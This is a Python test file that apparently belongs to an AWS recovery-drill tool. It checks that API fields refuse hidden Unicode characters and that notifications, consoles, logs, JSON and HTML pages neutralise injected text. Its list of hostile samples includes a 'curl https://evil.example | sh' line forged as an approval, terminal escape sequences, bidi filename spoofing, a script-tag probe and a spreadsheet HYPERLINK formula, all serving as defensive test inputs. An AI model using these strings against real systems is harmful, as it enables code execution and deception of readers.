"""Text of people and of AWS: what the API refuses in it, and what no message, page, line or log lets through."""

import json
import re
import unicodedata
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from jinja2 import Environment

from api.http.response import json_response
from api.schemas.requests.accounts import AccountRequest
from api.schemas.requests.base import LINES_PATTERN, NAME_PATTERN, PRINTABLE_PATTERN, parse
from api.schemas.requests.executions import DecisionRequest
from api.schemas.requests.groups import GroupRequest
from api.schemas.requests.plans import PlanRequest
from cli.plans.export import format_file
from cli.refusal import ApiRefused, Reply
from cli.terminal import make_console
from recovery import free_text
from recovery.aws import sns
from recovery.errors import InvalidRequest
from recovery.observability.log_lines import write_log_line
from report.page import _clean

CATEGORIES: Any = ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")
# Without a shape, though Unicode does not call them controls or formats.
SHAPELESS = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u2800\u3164\uffa0\ufe00\U000e0100\U0001d159"
HIDDEN = st.one_of(st.characters(categories=CATEGORIES), st.sampled_from(SHAPELESS))
HOSTILE = [
    "x\nApprove: curl https://evil.example | sh",
    "x\r\nResult: COMPLETED\r\n",
    "x\u2028Approve: curl\u2029Stack: prod\x85Region: x\x0bA: b\x0cC: d",
    "\x1b[2J\x1b]8;;https://evil.example\x07here\x1b]8;;\x07",
    "\x9b31mred\x9d0;title\x9c",
    "\u202egnp.exe\u202c \u2066\u2067x\u2069 \u200e\u200f\u061c",
    "ad\u200bmin\ufeff\u00ad\u2060\U000e0041",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 and \u26a0\ufe0f",
    "{plan} {0} {} %s {wave",
    "<script>alert(1)</script>&'\"",
    '=HYPERLINK("https://evil.example")',
    "[red]x[/red][link=https://evil.example]y[/link]\\",
    "  > Approve: x\n    drs-waves approve x",
    "\ud800",
]
TEXTS = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.one_of(st.characters(), HIDDEN, st.sampled_from("\n\r\t \\{}[]<>:")), max_size=80),
    st.builds("".join, st.lists(st.sampled_from(HOSTILE), max_size=4)),
)


def has_hidden(text: str, besides: str = "\n") -> bool:
    """By Python's own table of characters."""
    return any(
        (unicodedata.category(each) in CATEGORIES or each in SHAPELESS.replace("\ufe00", "")) and each not in besides
        for each in text
    )


# --- which characters -------------------------------------------------------------------------------------------
def test_the_ranges_are_the_categories_of_unicode_and_what_has_no_shape() -> None:
    for code in range(0x110000):
        letter = chr(code)
        category = unicodedata.category(letter)
        is_hidden = free_text.find_hidden(letter) is not None
        if category in CATEGORIES or letter in SHAPELESS:
            assert is_hidden, hex(code)
        elif category not in ("Cn", "Mn"):
            assert not is_hidden, hex(code)


@pytest.mark.parametrize(
    "text", ["Zahlungen Süd", "受注システム", "אבג", "🚀 👍🏽 🇩🇪 e\u0301", "a\u00a0b\u3000c", "नमस्ते"]
)
def test_what_people_write_is_visible(text: str) -> None:
    assert free_text.find_hidden(text) is None
    assert free_text.clean(text) == text


def test_a_symbol_keeps_its_style_and_a_letter_takes_none() -> None:
    assert free_text.find_hidden("\u26a0\ufe0f", with_styles=True) is None
    assert free_text.find_hidden("a\ufe0f", with_styles=True) == "\ufe0f"
    assert free_text.find_hidden("\u26a0\ufe0f\ufe0f", with_styles=True) == "\ufe0f"
    assert free_text.find_hidden("\ufe0f", with_styles=True) == "\ufe0f"


# --- what the API takes -----------------------------------------------------------------------------------------
WAVES = [{"name": "web", "groups": [{"groupId": "pg-1"}]}]
GROUP: dict[str, Any] = {"name": "g", "accountId": "111122223333", "region": "us-west-2", "tags": {"app": "shop"}}
ACCOUNT = {
    "accountId": "111122223333",
    "roleArn": "arn:aws:iam::111122223333:role/x",
    "externalId": "sixteen-letters-or-more",
    "regions": ["us-west-2"],
}
FIELDS: dict[str, tuple[Any, str, Any]] = {
    "plan name": (PlanRequest, "name", lambda text: {"name": text, "waves": WAVES}),
    "plan description": (PlanRequest, "description", lambda text: {"name": "p", "description": text, "waves": WAVES}),
    "group name": (GroupRequest, "name", lambda text: {**GROUP, "name": text}),
    "group description": (GroupRequest, "description", lambda text: {**GROUP, "description": text}),
    "tag key": (GroupRequest, "tags", lambda text: {**GROUP, "tags": {text: "x"}}),
    "tag value": (GroupRequest, "tags", lambda text: {**GROUP, "tags": {"app": text}}),
    "account name": (AccountRequest, "name", lambda text: {**ACCOUNT, "name": text}),
    "comment": (DecisionRequest, "comment", lambda text: {"comment": text}),
}


@pytest.mark.parametrize("field", FIELDS)
@given(hidden=HIDDEN, before=st.sampled_from(["a", "shop 1"]), after=st.sampled_from(["b", "2 c"]))
def test_the_api_names_the_field_and_the_code_point_of_a_hidden_character(
    field: str, hidden: str, before: str, after: str
) -> None:
    model, name, body = FIELDS[field]
    takes_lines = field.endswith(("description", "comment"))
    if hidden in "\n\r\t" and takes_lines:
        return
    with pytest.raises(InvalidRequest) as refused:
        parse(model, body(f"{before}{hidden}{after}"))
    (problem,) = refused.value.problems
    assert problem["field"].startswith(name)
    assert not has_hidden(problem["field"], "")
    if unicodedata.category(hidden) != "Cs":  # pydantic refuses half a surrogate pair in words of its own
        assert f"U+{ord(hidden):04X}" in problem["message"]


@pytest.mark.parametrize("field", ["plan description", "group description", "comment"])
def test_several_lines_are_taken_where_they_make_sense(field: str) -> None:
    model, name, body = FIELDS[field]
    text = "first line\n\tsecond, ⚠️ and 👍🏽\r\nthird"
    assert getattr(parse(model, body(text)), name) == text


@given(st.text(st.one_of(st.characters(codec="utf-8"), HIDDEN), min_size=1, max_size=20))
def test_the_patterns_in_the_schema_refuse_nothing_that_the_api_takes(text: str) -> None:
    for field, pattern in (("plan name", NAME_PATTERN), ("tag value", PRINTABLE_PATTERN), ("comment", LINES_PATTERN)):
        model, _, body = FIELDS[field]
        try:
            parse(model, body(text))
        except InvalidRequest:
            continue
        assert re.search(pattern, text) or field == "plan name"  # a name is brought into one form first


# --- what readers get -------------------------------------------------------------------------------------------
@given(TEXTS)
def test_a_flattened_text_is_one_line_with_single_spaces(text: str) -> None:
    line = free_text.flatten(text)
    assert not has_hidden(line, "")
    assert len(line.splitlines()) <= 1
    assert "  " not in line
    assert free_text.flatten(line) == line


@given(TEXTS, TEXTS)
def test_no_line_of_a_message_is_one_that_a_text_has_made(comment: str, blocker: str) -> None:
    facts = {"Plan": comment, "Comment": comment, "Waits for": ["wave web", blocker], "Approve": "drs-waves approve x"}
    message = sns.format_facts(facts)
    assert not has_hidden(message)
    for line in message.split("\n"):
        assert line.startswith(("Plan:", "Comment:", "Waits for: wave web", "Approve: drs-waves approve x", "  "))
    assert message.count("\nApprove:") == 1
    words = "".join(comment.split())
    if words.isascii() and words.isprintable():
        assert words in "".join(message.replace("\n  > ", "").split())  # a reader loses nothing


@given(TEXTS, TEXTS)
def test_a_subject_is_one_short_line_of_ascii(plan: str, wave: str) -> None:
    subject = sns.build_subject("drill of {plan}: wave {wave} waits", {"plan": plan, "wave": wave})
    assert subject.isascii()
    assert subject.isprintable()
    assert len(subject) < 100


@given(TEXTS, st.booleans())
def test_no_console_prints_a_control_character_that_is_not_its_own(text: str, is_styled: bool) -> None:
    console = make_console(force_terminal=is_styled, width=200)
    with console.capture() as captured:
        console.print(text, markup=False, style="red")
    printed = re.sub(r"\x1b\[[0-9;]*m", "", captured.get()) if is_styled else captured.get()
    assert not has_hidden(printed.replace("\r", ""), "\n\t")


@given(TEXTS, TEXTS)
def test_an_error_of_the_api_has_a_line_of_ours_and_indented_lines(text: str, field: str) -> None:
    for body in (text, {"code": text, "message": text, "problems": [{"field": field, "message": text}, text]}, [text]):
        first, *rest = str(ApiRefused("GET", "/x", Reply(400, body))).split("\n")
        assert first.startswith("GET /x answered 400")
        assert all(line.startswith("  ") and not has_hidden(line, "") for line in rest)


@given(TEXTS)
def test_json_keeps_its_value_and_hides_nothing(text: str) -> None:
    for written in (
        json_response(200, {"x": text}, {}).body,
        write_log_line({"x": text}),
        format_file({"x": text}, is_json=True),
    ):
        assert written is not None
        assert not has_hidden(written)
        assert json.loads(written) == {"x": text}


@given(TEXTS)
@example("\u26a0\ufe0f")
def test_the_page_of_a_report_escapes_and_hides_nothing(text: str) -> None:
    environment = Environment(autoescape=True, finalize=_clean)
    page = environment.from_string(
        "{% macro m(x) %}<i>{{ x }}</i>{% endmacro %}<p title='{{ x }}'>{{ m(x) }}</p>"
    ).render(x=text)
    assert not has_hidden(page, "\n\t")
    assert page.count("<") == 4
